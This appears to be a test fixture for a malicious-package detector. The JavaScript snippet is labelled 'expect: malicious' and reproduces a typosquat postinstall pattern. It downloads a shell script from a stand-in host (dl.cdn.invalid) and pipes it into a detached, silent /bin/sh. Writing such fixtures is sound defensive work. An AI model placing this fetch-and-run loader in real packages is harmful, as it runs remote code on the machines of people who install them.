// when: install
// expect: malicious
// source: typosquat postinstalls that run `curl | sh` without curl: the response is piped into `sh -s`
const https = require('https');
const { spawn } = require('child_process');

https.get('https://dl.cdn.invalid/setup/unix.sh', (res) => {
  const sh = spawn('/bin/sh', ['-s'], { detached: true, stdio: ['pipe', 'ignore', 'ignore'] });
  res.pipe(sh.stdin);
  sh.unref();
});
